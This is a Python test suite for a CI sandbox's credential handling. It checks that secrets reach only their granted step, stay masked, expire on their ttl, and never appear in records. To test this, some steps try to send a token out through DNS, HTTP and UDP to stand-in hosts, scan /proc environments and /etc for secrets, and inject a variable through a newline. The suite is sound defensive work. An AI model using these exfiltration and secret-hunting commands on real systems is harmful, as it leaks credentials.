#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""credentials_test.py - secrets and who sees them (C), by searching for canaries."""
import base64
import gzip
import os
import sys
import time
import urllib.parse

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
from dd import FETCH, PUSH, Job, case, check, descendants, equal, main, py, run, step  # noqa: E402
from world import ALLOWED, Resolver, Web  # noqa: E402

W = {}
CANARY = "canary-7Hq2" + os.urandom(12).hex()
# Looks through everything a step can read for the canary, plain or encoded. The canary itself must not be in the script: it gets a hash.
HUNT = '''
        import base64, glob, hashlib, re
        wanted = {wanted!r}
        def forms(blob):
            yield blob
            for m in re.findall(rb"[A-Za-z0-9+/]{{30,}}={{0,2}}", blob):
                for shift in range(4):
                    try: yield base64.b64decode(m[shift:len(m) - (len(m) - shift) % 4])
                    except Exception: pass
            for m in re.findall(rb"(?:[0-9a-fA-F]{{2}}){{20,}}", blob): yield bytes.fromhex(m.decode())
        def has(blob):
            return any(hashlib.sha256(m).hexdigest() in wanted for form in forms(blob) for m in re.findall(rb"canary-7Hq2[0-9a-f]{{24}}", form))
        hits = []; looked = 0
        for blob, where in [(repr(dict(os.environb)).encode(), "environment")]:
            if has(blob): hits.append(where)
        for top in ("/work", os.environ["HOME"], "/tmp", "/run", "/etc", "/dev/shm", "/var", "/opt", os.environ.get("RUNNER_TEMP", "/tmp")):
            for where, _, files in os.walk(top):
                for f in files:
                    path = os.path.join(where, f)
                    try:
                        if not os.path.isfile(path): continue
                        with open(path, "rb") as file: looked += 1; blob = file.read(1 << 20)
                    except OSError: continue
                    if has(blob): hits.append(path)
        for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
            try:
                with open(path, "rb") as file: looked += 1; blob = file.read()
            except OSError: continue
            if has(blob): hits.append(path)
        mark("hits-{label}", hits); mark("looked-{label}", looked)
'''


def hunt(label):
    import hashlib
    return py(HUNT.format(wanted=[hashlib.sha256(CANARY.encode()).hexdigest()], label=label))


def secret_job(as_=None, extra=()):
    steps = [step("early", hunt("early"), FETCH), step("make", "mkdir -p dist; echo x >dist/a\n" + hunt("make")),
             step("publish", 'test -n "$TOKEN"; printf %s "$TOKEN" | sha256sum | cut -c 1-64 | sed "s/.*/@@digest=&@@/"; sleep 1; echo "$TOKEN"', PUSH),
             step("neighbour", 'echo "@@neighbour=${TOKEN:-none}@@"\n' + hunt("neighbour"), PUSH), step("late", hunt("late")), *extra]
    job = Job(steps, {"push": {"artifacts": ["dist/**"]}},
              credentials={"registry": {"from": {"file": "@SECRET@"}, "for": {"phase": "push", "steps": ["publish"]}, "as": as_ or {"env": "TOKEN"}, "ttl": "5m"}})
    path = job.write("secrets/token", CANARY)
    os.chmod(path, 0o600)
    with open(os.path.join(job.dir, "policy.yml"), encoding="utf-8") as file:
        text = file.read()
    job.write("policy.yml", text.replace("@SECRET@", path))
    return job


def encodings(secret):
    raw = secret.encode()
    yield raw
    for pad in range(3):
        yield base64.b64encode(b"x" * pad + raw)[4:-4]
    yield raw.hex().encode()
    yield urllib.parse.quote(secret).encode()
    yield gzip.compress(raw)[10:40]


@case("C-01 C-02", "only the step that the credential is for ever sees it; it is in no other step, file, output or record")
def _():
    import hashlib
    job = secret_job()
    try:
        r = job.run(timeout=90)
        equal(r.rc, 0, "exit status", r)
        equal(r.mark("digest"), hashlib.sha256(CANARY.encode()).hexdigest(), "what the push step held", r)
        equal(r.mark("neighbour"), "none", "the variable in another push step", r)
        for label in ("early", "make", "neighbour", "late"):
            equal(r.mark("hits-" + label), "[]", f"places with the canary in step {label}", r)
            check(int(r.mark("looked-" + label)) > 5, "the search looked nowhere", r)
        for where, _, files in os.walk(job.dir):
            for file in files:
                path = os.path.join(where, file)
                if "/secrets/" in path or not os.path.isfile(path):
                    continue
                with open(path, "rb") as handle:
                    blob = handle.read()
                check(not any(e in blob for e in encodings(CANARY)), f"the canary is in {path}", r)
        check(CANARY not in r.out, "the canary is in the output, unmasked", r)
        check("***" in r.out, "the mask is missing", r)
        grants = r.events("cred.grant")
        equal(len(grants), 1, "cred.grant events", r)
        equal(grants[0]["phase"], "push", "phase of the grant", r)
        equal(len(r.events("cred.revoke")), 1, "cred.revoke events", r)
    finally:
        job.close()


@case("C-02", "a credential from drydock's own environment reaches its step, and stays in no process of the tree")
def _():
    import hashlib
    steps = [step("make", hunt("make")), step("publish", 'printf %s "$TOKEN" | sha256sum | cut -c 1-64 | sed "s/.*/@@digest=&@@/"; sleep 1.5', PUSH), step("late", hunt("late"))]
    job = Job(steps, {"push": {}}, credentials={"registry": {"from": {"env": "DD_CANARY"}, "for": {"phase": "push", "steps": ["publish"]}, "as": {"env": "TOKEN"}, "ttl": "5m"}})
    try:
        process = job.popen(env={"DD_CANARY": CANARY})
        seen, publishing = {}, 0
        while process.poll() is None:
            tree = [process.pid, *descendants(process.pid)]
            environs = {pid: read(f"/proc/{pid}/environ") for pid in tree}
            held = [pid for pid, blob in environs.items() if CANARY.encode() in blob]
            commands = {pid: read(f"/proc/{pid}/cmdline") for pid in tree}
            if any(b"sleep" in c for c in commands.values()):
                publishing += 1
                for pid in held:
                    if not any(word in commands[pid] for word in (b"publish", b"sleep")):
                        seen[pid] = commands[pid]
            time.sleep(0.02)
        out = process.communicate()[0].decode("utf-8", "replace")
    finally:
        job.close()
    equal(process.returncode, 0, "exit status\n" + out[-2000:])
    check("@@digest=" + hashlib.sha256(CANARY.encode()).hexdigest() in out, "the step did not hold the credential\n" + out[-2000:])
    for label in ("make", "late"):
        check(f"@@hits-{label}=[]@@" in out, f"step {label} saw the canary\n" + out[-2000:])
    check(publishing > 5, "the push step was never looked at: the test proves nothing")
    equal(seen, {}, "processes besides the step whose environment holds the canary")


def read(path):
    try:
        with open(path, "rb") as file:
            return file.read()
    except OSError:
        return b""


@case("L-08", "a secret spelled as a host name, allowed or not, is in no record and no output")
def _():
    canary = "canary-7hq2" + os.urandom(8).hex()
    W["dns"].say(canary + ".wild.test", ALLOWED)
    job = Job([step("publish", """curl -s -m 4 "http://$TOKEN.wild.test/$TOKEN?q=$TOKEN" | sed 's/.*/@@got=&@@/'; curl -s -m 4 "http://$TOKEN.nope.test/" || true
python3 -c 'import socket, time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
try: s.sendto(b"x", ("45.10.20.66", 9999))
except OSError: time.sleep(0.5)' "$TOKEN" """, PUSH)],
              {"push": {"egress": [{"host": "*.wild.test", "port": 80}]}},
              credentials={"registry": {"from": {"env": "DD_CANARY"}, "for": {"phase": "push", "steps": ["publish"]}, "as": {"env": "TOKEN"}, "ttl": "5m"}})
    try:
        r = job.run(env={"DD_CANARY": canary})
        equal(r.rc, 0, "exit status", r)
        equal(r.mark("got"), "this is allowed", "the allowed name", r)
        check(canary not in r.out, "the secret is in the output", r)
        for event in r.record:
            check(canary not in str(event), f"the secret is in {event}", r)
        denied = r.events("dns.deny")
        check(r.events("net.allow") and denied, "the record lacks the attempts: the test proves nothing", r)
        # Cut to length, a secret could stand there in part: of a step that holds one no arguments are shown at all.
        denied += r.events("net.deny")
        check(all(not (e["process"] or {}).get("argv") for e in denied), f"arguments of a step with a credential: {denied}", r)
        check(any("python" in (e["process"] or {}).get("exe", "") for e in denied), f"the process is not named: {denied}", r)
    finally:
        job.close()


@case("L-08", "neither the name of a step nor a process that tried puts user info or a query string into the record")
def _():
    job = Job([{"id": "default-name", "_phase": "build", "run": "curl -s -m 3 'https://user:hunter2@example.test/p?token=hunter3#hunter4' || true"},
               {"id": "own-name", "_phase": "build", "name": "see https://u:hunter2@h.test/?q=hunter3", "run": "sh -c 'exec curl -s -m 3 http://a.test/ http://u:hunter2@b.test/?hunter3' || true"}])
    try:
        r = job.run()
        equal(r.rc, 0, "exit status", r)
        check(len(r.events("dns.deny")) >= 2, "nothing was refused: the test proves nothing", r)
        for event in r.record:
            check("hunter" not in str(event), f"in the record: {event}", r)
    finally:
        job.close()


@case("C-10", "a credential delivered as a file is on a private file system, mode 0400, and gone afterwards")
def _():
    job = secret_job({"file": "token"})
    job.write("workflow.yml", open(os.path.join(job.dir, "workflow.yml"), encoding="utf-8").read().replace(
        'test -n \\"$TOKEN\\"; printf %s \\"$TOKEN\\"', "stat -c '@@mode=%a@@' /run/drydock/cred/token; stat -f -c '@@fs=%T@@' /run/drydock/cred; cat /run/drydock/cred/token"))
    try:
        r = job.run(timeout=90)
        equal(r.rc, 0, "exit status", r)
        equal(r.mark("mode"), "400", "mode", r)
        equal(r.mark("fs"), "ramfs", "file system (unlike tmpfs, ramfs is never swapped out)", r)
        for label in ("early", "make", "late"):
            equal(r.mark("hits-" + label), "[]", f"places with the canary in step {label}", r)
    finally:
        job.close()


@case("C-03", "no step has the address or the bearer of an identity broker, whatever it asks for with permissions: there is none to reach")
def _():
    script = py('''
        mark("vars-{label}", sorted(k for k in os.environ if "ID_TOKEN" in k or "OIDC" in k or k == "ACTIONS_RUNTIME_TOKEN"))
        import glob
        mark("files-{label}", [p for top in ("/run", "/tmp", "/var") for w, _, fs in os.walk(top) for f in fs for p in [os.path.join(w, f)] if "token" in f.lower() or "oidc" in f.lower()])
    ''')
    steps = [step(name, script.replace("{label}", name), phase) for name, phase in (("deps", FETCH), ("make", "build"), ("publish", PUSH))]
    job = Job(steps, {"fetch": {}, "push": {}})
    try:
        import json
        with open(os.path.join(job.dir, "workflow.yml"), encoding="utf-8") as file:
            workflow = json.load(file)
        workflow["permissions"] = {"id-token": "write", "contents": "read"}
        job.write("workflow.yml", json.dumps(workflow))
        r = job.run()
        equal(r.rc, 0, "exit status", r)
        for name in ("deps", "make", "publish"):
            equal((r.mark("vars-" + name), r.mark("files-" + name)), ("[]", "[]"), f"what {name} has", r)
    finally:
        job.close()


@case("C-14", "a value that would break out of a variable, or that nothing could mask, is handed to no step, and its form is named")
def _():
    for value, form, wrong in ((b"first line\nEVIL=1", {"env": "TOKEN"}, "0x0a"), (b"with\0nul", {"env": "TOKEN"}, "0x00"), (b"abc", {"env": "TOKEN"}, "masked"),
                               (b"abc", {"file": "token"}, "masked"), (b"first line\nsecond line", {"file": "token"}, None)):
        job = Job([step("publish", "echo @@ran=1@@; env | sed -n 's/^EVIL=.*/@@evil=1@@/p'", PUSH)], {"push": {"workspace": "artifacts"}},
                  credentials={"token": {"from": {"file": "TOKEN_FILE"}, "for": {"phase": "push", "steps": ["publish"]}, "as": form, "ttl": "1m"}})
        try:
            secret = os.path.join(job.dir, "secret")
            with open(secret, "wb") as file:
                file.write(value)
            os.chmod(secret, 0o600)
            policy = open(os.path.join(job.dir, "policy.yml"), encoding="utf-8").read()
            job.write("policy.yml", policy.replace("TOKEN_FILE", secret))
            r = job.run(timeout=60)
        finally:
            job.close()
        if wrong is None:
            equal(r.rc, 0, "exit status of a file with two lines", r)
            continue
        check(r.rc != 0 and "@@ran" not in r.out, f"{value} as {form} reached the step", r)
        check(wrong in r.out, f"the reason does not say {wrong}", r)


def many(n, length):
    """A job whose one step holds @n credentials of @length bytes, in variables and in files."""
    names = [f"c{i}" for i in range(n)]
    files = {f"secrets/{name}": os.urandom(length // 2).hex() for name in names}
    credentials = {name: {"from": {"file": f"secrets/{name}"}, "for": {"phase": "push", "steps": ["a"]}, "as": {"file": name} if i % 3 == 0 else {"env": f"C{i}"}} for i, name in enumerate(names)}
    script = """echo "@@held=$(($(env | grep -c '^C[0-9]') + $(ls "$CREDENTIALS_DIRECTORY" | wc -l)))@@"; echo $C1; cat "$CREDENTIALS_DIRECTORY/c0" """
    job = Job([step("a", script, PUSH)], {"push": {}}, credentials=credentials)
    for name, text in files.items():
        os.makedirs(os.path.join(job.dir, "secrets"), exist_ok=True)
        with open(os.path.join(job.dir, name), "w", encoding="ascii") as file:
            file.write(text)
        os.chmod(os.path.join(job.dir, name), 0o600)
    return job, list(files.values())


# Root may lock what it wants: without that capability the limit is everybody's.
LIMITED = ["setpriv", "--bounding-set=-ipc_lock", "--inh-caps=-ipc_lock", "--"]


@case("C-16", "a hundred credentials in one step fit into the usual 8 MiB of locked memory; where they do not, nothing starts, and limit and remedy are named")
def _():
    job, values = many(100, 40)
    try:
        r = job.run(prefix=["prlimit", f"--memlock={8 << 20}:{8 << 20}", *LIMITED])
        equal((r.rc, r.marks.get("held")), (0, "100"), "what the step held", r)
        check(not any(value in r.out for value in values), "a value is shown", r)
        equal(len(r.events("cred.grant")), 100, "grants", r)
        r = job.run(prefix=["prlimit", f"--memlock={192 << 10}:{192 << 10}", *LIMITED])
        check(r.rc != 0 and "held" not in r.marks, f"it ran, with {r.rc}", r)
        check("RLIMIT_MEMLOCK" in r.out and "ulimit -l" in r.out, "the remedy", r)
    finally:
        job.close()


@case("C-15", "no command line on the host ever holds the secret while the job runs")
def _():
    job = secret_job()
    try:
        process = job.popen()
        seen, scans = [], 0
        while process.poll() is None:
            for entry in os.listdir("/proc"):
                if entry.isdigit():
                    try:
                        with open(f"/proc/{entry}/cmdline", "rb") as file:
                            if CANARY.encode() in file.read():
                                seen.append(entry)
                    except OSError:
                        pass
            scans += 1
            time.sleep(0.01)
            if scans > 6000:
                process.kill()
        out = process.communicate()[0].decode()
        equal(process.returncode, 0, "exit status\n" + out[-2000:])
        check(scans > 20, "too few scans to prove anything")
        equal(seen, [], "processes with the secret in their command line")
    finally:
        job.close()


def setup():
    W["dns"] = Resolver()
    W["web"] = Web(ALLOWED, "allowed")


@case("C-18", "a credential ends with its ttl, in a variable and in a file: the step that holds it is killed, also where it ignores SIGTERM, and says why")
def _():
    for as_, read in (({"env": "TOKEN"}, 'echo "@@late=$TOKEN@@"'), ({"file": "tok"}, 'echo "@@late=$(cat "$CREDENTIALS_DIRECTORY/tok")@@"')):
        credentials = {"registry": {"from": {"env": "DD_C18"}, "for": {"phase": "push", "steps": ["publish"]}, "as": as_, "ttl": "1s"},
                       "other": {"from": {"env": "DD_C18_B"}, "for": {"phase": "push", "steps": ["publish"]}, "as": {"env": "OTHER"}, "ttl": "1h"}}
        script = "trap '' TERM INT; echo @@held=yes@@; (sleep 3; " + read + ") & sleep 4; " + read
        r = run([step("publish", script, PUSH), step("after", "echo @@after=ran@@")], {"push": {}}, credentials=credentials,
                env={"DD_C18": "canary-c18-secret", "DD_C18_B": "canary-c18-other"}, rc=1)
        equal(r.mark("held"), "yes", "the step began", r)
        check("late" not in r.marks and "after" not in r.marks, f"{as_}: it lived on", r)
        check(r.took < 3, f"{as_}: {r.took:.1f} s", r)
        check("credential registry has lived its ttl of 1 s" in r.out and "credentials.registry.ttl" in r.out, "not told", r)
        [end] = r.events("step.end")
        check(end["outcome"] == "over its limit" and "ttl" in end["why"], str(end), r)
        check(end["wall_sec"] < 2, str(end), r)
        equal(len(r.events("cred.revoke")), 2, "revoked", r)
        check(not r.mentions("step.end", "canary") and "canary-c18" not in r.out, "a value", r)


@case("C-18", "OK: a step that is done before the ttl is over notices nothing")
def _():
    credentials = {"registry": {"from": {"env": "DD_C18"}, "for": {"phase": "push", "steps": ["publish"]}, "as": {"env": "TOKEN"}, "ttl": "20s"}}
    r = run([step("publish", 'echo "@@len=${#TOKEN}@@"', PUSH)], {"push": {}}, credentials=credentials, env={"DD_C18": "canary-c18-secret"})
    equal(r.mark("len"), "17", "the credential", r)


if __name__ == "__main__":
    main(setup)
